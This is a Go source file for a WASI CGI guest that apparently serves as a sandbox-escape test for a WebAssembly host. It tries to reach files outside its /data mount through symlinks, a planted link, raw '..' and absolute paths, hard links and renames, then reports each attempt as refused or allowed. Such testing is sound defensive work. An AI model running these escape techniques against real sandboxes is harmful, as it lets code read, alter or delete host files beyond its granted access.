//go:build wasip1

// Command escape is a CGI guest that tries to leave its /data mount: by
// symlinks it makes, a symlink planted in the folder, "..", absolute paths,
// hard links and renames, for reading and for writing. /drill reports one
// line per attempt, "refused" or "ALLOWED" with what it got; /work does
// ordinary file work inside the mount and reports each step.
//
// The query names what only the host knows: up is the relative path from
// the mount to the outside folder (for example ../outside), abs its
// absolute host path, and planted the name of a link the host put in the
// mount that points at the outside folder.
package main

import (
	"fmt"
	"io"
	"net/http"
	"net/http/cgi"
	"os"
	"slices"
	"strings"
	"unsafe"
)

// preopenFD is the first preopened directory: the runtime gives /data
// descriptor 3, after standard input, output and error. The raw calls below
// use it to hand the host paths that Go's os package would have cleaned.
const preopenFD = 3

//go:wasmimport wasi_snapshot_preview1 path_open
func pathOpen(fd int32, dirflags uint32, path unsafe.Pointer, pathLen uint32, oflags uint32, rightsBase uint64, rightsInheriting uint64, fdflags uint32, newFD unsafe.Pointer) uint32

//go:wasmimport wasi_snapshot_preview1 path_link
func pathLink(oldFD int32, oldFlags uint32, oldPath unsafe.Pointer, oldLen uint32, newFD int32, newPath unsafe.Pointer, newLen uint32) uint32

//go:wasmimport wasi_snapshot_preview1 path_rename
func pathRename(fd int32, oldPath unsafe.Pointer, oldLen uint32, newFD int32, newPath unsafe.Pointer, newLen uint32) uint32

//go:wasmimport wasi_snapshot_preview1 path_symlink
func pathSymlink(target unsafe.Pointer, targetLen uint32, fd int32, path unsafe.Pointer, pathLen uint32) uint32

const (
	lookupFollow = 1
	oflagCreat   = 1
	rightRead    = 1 << 1
	rightWrite   = 1 << 6
)

func ptr(s string) (unsafe.Pointer, uint32) {
	b := []byte(s)
	if len(b) == 0 {
		b = []byte{0}
		return unsafe.Pointer(&b[0]), 0
	}
	return unsafe.Pointer(&b[0]), uint32(len(s))
}

// rawOpen opens path relative to the mount exactly as given.
func rawOpen(path string, write bool) (*os.File, error) {
	p, n := ptr(path)
	var fd int32
	oflags, rights := uint32(0), uint64(rightRead)
	if write {
		oflags, rights = oflagCreat, rightRead|rightWrite
	}
	if errno := pathOpen(preopenFD, lookupFollow, p, n, oflags, rights, rights, 0, unsafe.Pointer(&fd)); errno != 0 {
		return nil, fmt.Errorf("path_open %q: wasi errno %d", path, errno)
	}
	return os.NewFile(uintptr(fd), path), nil
}

func rawErr(call, detail string, errno uint32) error {
	if errno == 0 {
		return nil
	}
	return fmt.Errorf("%s %s: wasi errno %d", call, detail, errno)
}

func rawLink(from, to string) error {
	fp, fn := ptr(from)
	tp, tn := ptr(to)
	return rawErr("path_link", from+" "+to, pathLink(preopenFD, lookupFollow, fp, fn, preopenFD, tp, tn))
}

func rawRename(from, to string) error {
	fp, fn := ptr(from)
	tp, tn := ptr(to)
	return rawErr("path_rename", from+" "+to, pathRename(preopenFD, fp, fn, preopenFD, tp, tn))
}

func rawSymlink(target, path string) error {
	tp, tn := ptr(target)
	pp, pn := ptr(path)
	return rawErr("path_symlink", target+" "+path, pathSymlink(tp, tn, preopenFD, pp, pn))
}

type drill struct {
	w io.Writer
	// noLink is set for attempts through a link whose making was refused:
	// they are refused by that, and running them would only touch the mount.
	noLink bool
}

// through is d for the attempts that go through a link the guest tried to
// make; made says whether it was.
func (d drill) through(made bool) drill { return drill{w: d.w, noLink: !made} }

// link tries to make an escaping symlink and reports it.
func (d drill) link(name string, make func() error) bool {
	err := make()
	d.do(name, func() error { return err })
	return err == nil
}

// read reports whether reading got anything.
func (d drill) read(name string, read func() ([]byte, error)) {
	if d.noLink {
		fmt.Fprintf(d.w, "%s: refused (the link it needs was refused)\n", name)
		return
	}
	data, err := read()
	if err != nil {
		fmt.Fprintf(d.w, "%s: refused (%v)\n", name, err)
		return
	}
	fmt.Fprintf(d.w, "%s: ALLOWED, read %q\n", name, data)
}

// do reports whether an operation that should be refused succeeded.
func (d drill) do(name string, op func() error) {
	if d.noLink {
		fmt.Fprintf(d.w, "%s: refused (the link it needs was refused)\n", name)
		return
	}
	if err := op(); err != nil {
		fmt.Fprintf(d.w, "%s: refused (%v)\n", name, err)
		return
	}
	fmt.Fprintf(d.w, "%s: ALLOWED\n", name)
}

func readRaw(path string) func() ([]byte, error) {
	return func() ([]byte, error) {
		f, err := rawOpen(path, false)
		if err != nil {
			return nil, err
		}
		defer f.Close()
		return io.ReadAll(f)
	}
}

func writeRaw(path string) func() error {
	return func() error {
		f, err := rawOpen(path, true)
		if err != nil {
			return err
		}
		defer f.Close()
		_, err = f.Write([]byte("written by the guest"))
		return err
	}
}

func write(path string) func() error {
	return func() error { return os.WriteFile(path, []byte("written by the guest"), 0o644) }
}

func readFile(path string) func() ([]byte, error) {
	return func() ([]byte, error) { return os.ReadFile(path) }
}

func runDrill(w io.Writer, up, abs, planted string) {
	d := drill{w: w}
	// The finding: a link the guest makes, followed on the host.
	esc := d.through(d.link("symlink to the outside folder", func() error { return os.Symlink(up, "/data/esc") }))
	esc.read("read through the guest's folder link", readFile("/data/esc/secret.txt"))
	esc.do("write through the guest's folder link", write("/data/esc/by-folder-link.txt"))
	esc.do("mkdir through the guest's folder link", func() error { return os.Mkdir("/data/esc/by-folder-link-dir", 0o755) })
	escFile := d.through(d.link("symlink to the outside file", func() error { return os.Symlink(up+"/secret.txt", "/data/escfile") }))
	escFile.read("read through the guest's file link", readFile("/data/escfile"))
	dangling := d.through(d.link("symlink to a new outside file", func() error { return os.Symlink(up+"/by-dangling-link.txt", "/data/dangling") }))
	dangling.do("create through the guest's dangling link", write("/data/dangling"))
	escAbs := d.through(d.link("symlink by absolute host path", func() error { return os.Symlink(abs, "/data/escabs") }))
	escAbs.read("read through the absolute link", readFile("/data/escabs/secret.txt"))
	rawEsc := d.through(d.link("raw symlink to the outside folder", func() error { return rawSymlink(up, "rawesc") }))
	rawEsc.read("raw read through the raw link", readRaw("rawesc/secret.txt"))
	deep := d.through(d.link("symlink from a subfolder, climbing out", func() error {
		os.Mkdir("/data/deep", 0o755)
		return os.Symlink("../"+up, "/data/deep/esc")
	}))
	deep.read("read through the subfolder link", readFile("/data/deep/esc/secret.txt"))

	// A link already in the data folder, and one the guest makes to it,
	// which names a path inside the mount until the host follows it.
	p := "/data/" + planted
	if err := os.Symlink(planted+"/secret.txt", "/data/via"); err != nil {
		fmt.Fprintf(w, "making /data/via -> %s/secret.txt: FAILED %v\n", planted, err)
	}
	d.read("read through the link into the planted link", readFile("/data/via"))
	d.do("write through the link into the planted link", write("/data/via"))
	d.read("read through the planted link", readFile(p+"/secret.txt"))
	d.do("write through the planted link", write(p+"/by-planted-link.txt"))
	d.do("mkdir through the planted link", func() error { return os.Mkdir(p+"/by-planted-link-dir", 0o755) })
	d.do("stat through the planted link", func() error {
		fi, err := os.Stat(p + "/secret.txt")
		if err == nil {
			fmt.Fprintf(w, "  (stat saw %d bytes)\n", fi.Size())
		}
		return err
	})
	d.do("chmod through the planted link", func() error { return os.Chmod(p+"/secret.txt", 0o666) })
	d.do("readdir through the planted link", func() error {
		ents, err := os.ReadDir(p)
		if err == nil {
			fmt.Fprintf(w, "  (listed %d entries)\n", len(ents))
		}
		return err
	})

	// ".." and absolute paths handed to the host as they are.
	d.read("raw read with ..", readRaw(up+"/secret.txt"))
	d.do("raw create with ..", writeRaw(up+"/by-dotdot.txt"))
	d.read("raw read by absolute path", readRaw(abs+"/secret.txt"))
	d.do("raw create by absolute path", writeRaw(abs+"/by-absolute.txt"))
	d.read("read /data/..", readFile("/data/"+up+"/secret.txt"))

	// Hard links: both ends must be inside.
	d.do("hard link in through the planted link", func() error { return os.Link(p+"/secret.txt", "/data/hardlink") })
	d.read("read the hard link", readFile("/data/hardlink"))
	d.do("raw hard link in with ..", func() error { return rawLink(up+"/secret.txt", "rawhardlink") })
	d.read("read the raw hard link", readFile("/data/rawhardlink"))
	d.do("hard link out through the planted link", func() error { return os.Link("/data/victim.txt", p+"/by-hardlink.txt") })
	d.do("raw hard link out with ..", func() error { return rawLink("victim.txt", up+"/by-raw-hardlink.txt") })

	// Renames: both ends must be inside.
	d.do("rename in through the planted link", func() error { return os.Rename(p+"/secret.txt", "/data/stolen") })
	d.read("read the renamed-in file", readFile("/data/stolen"))
	d.do("raw rename in with ..", func() error { return rawRename(up+"/secret.txt", "rawstolen") })
	d.read("read the raw renamed-in file", readFile("/data/rawstolen"))
	d.do("rename out through the planted link", func() error { return os.Rename("/data/victim.txt", p+"/by-rename.txt") })
	d.do("raw rename out with ..", func() error { return rawRename("victim.txt", up+"/by-raw-rename.txt") })

	// Last, as they would spoil the secret for the attempts above.
	escFile.do("overwrite through the guest's file link", write("/data/escfile"))
	d.do("remove through the planted link", func() error { return os.Remove(p + "/secret.txt") })
}

// runWork does ordinary file work inside the mount; every line must say ok.
func runWork(w io.Writer) {
	step := func(name string, err error) {
		if err != nil {
			fmt.Fprintf(w, "%s: FAILED %v\n", name, err)
			return
		}
		fmt.Fprintf(w, "%s: ok\n", name)
	}
	step("mkdir", os.MkdirAll("/data/work/sub", 0o755))
	step("create", os.WriteFile("/data/work/a.txt", []byte("first"), 0o644))
	f, err := os.OpenFile("/data/work/a.txt", os.O_APPEND|os.O_WRONLY, 0)
	if err == nil {
		_, err = f.Write([]byte(" second"))
		f.Close()
	}
	step("append", err)
	data, err := os.ReadFile("/data/work/a.txt")
	if err == nil && string(data) != "first second" {
		err = fmt.Errorf("read %q", data)
	}
	step("read", err)
	step("rename", os.Rename("/data/work/a.txt", "/data/work/sub/b.txt"))
	step("symlink inside", os.Symlink("sub/b.txt", "/data/work/link"))
	data, err = os.ReadFile("/data/work/link")
	if err == nil && string(data) != "first second" {
		err = fmt.Errorf("read %q", data)
	}
	step("read through the inside link", err)
	target, err := os.Readlink("/data/work/link")
	if err == nil && target != "sub/b.txt" {
		err = fmt.Errorf("readlink %q", target)
	}
	step("readlink", err)
	step("hard link inside", os.Link("/data/work/sub/b.txt", "/data/work/hard.txt"))
	fi, err := os.Stat("/data/work/hard.txt")
	if err == nil && fi.Size() != int64(len("first second")) {
		err = fmt.Errorf("size %d", fi.Size())
	}
	step("stat", err)
	fi, err = os.Lstat("/data/work/link")
	if err == nil && fi.Mode()&os.ModeSymlink == 0 {
		err = fmt.Errorf("lstat mode %v", fi.Mode())
	}
	step("lstat", err)
	ents, err := os.ReadDir("/data/work")
	var names []string
	for _, e := range ents {
		names = append(names, e.Name())
	}
	if err == nil && !slices.Equal(names, []string{"hard.txt", "link", "sub"}) {
		err = fmt.Errorf("listed %v", names)
	}
	step("readdir", err)
	step("mkdir and remove", func() error {
		if err := os.Mkdir("/data/work/tmp", 0o755); err != nil {
			return err
		}
		return os.Remove("/data/work/tmp")
	}())
	step("remove the hard link", os.Remove("/data/work/hard.txt"))
	f, err = rawOpen("work/sub/b.txt", false)
	if err == nil {
		f.Close()
	}
	step("raw open inside", err)
}

func main() {
	cgi.Serve(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		q := r.URL.Query()
		switch r.URL.Path {
		case "/drill":
			var out strings.Builder
			runDrill(&out, q.Get("up"), q.Get("abs"), q.Get("planted"))
			io.WriteString(w, out.String())
		case "/work":
			runWork(w)
		default:
			http.NotFound(w, r)
		}
	}))
}
